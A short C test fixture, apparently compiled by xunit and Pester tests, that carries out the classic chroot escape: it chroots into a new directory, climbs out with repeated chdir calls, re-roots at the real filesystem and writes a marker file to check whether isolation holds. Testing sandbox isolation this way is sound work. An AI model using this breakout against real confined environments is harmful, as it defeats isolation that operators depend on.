/* The classic chroot escape, for the RUN isolation tests (xunit and Pester compile it with gcc -static):
   mkdir x; chroot x; chdir .. many times; chroot .; then write the file named on the command line. */
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

int main(int argc, char **argv) {
    if (argc < 2) return 2;
    mkdir("esc-x", 0700);
    if (chroot("esc-x") != 0) printf("chroot esc-x: %s\n", strerror(errno));
    for (int i = 0; i < 256; i++) chdir("..");
    if (chroot(".") != 0) printf("chroot .: %s\n", strerror(errno));
    int fd = open(argv[1], O_WRONLY | O_CREAT | O_TRUNC, 0644);
    if (fd < 0) { printf("open %s: %s\n", argv[1], strerror(errno)); return 0; }
    if (write(fd, "escaped\n", 8) != 8) return 3;
    close(fd);
    printf("wrote %s\n", argv[1]);
    return 0;
}
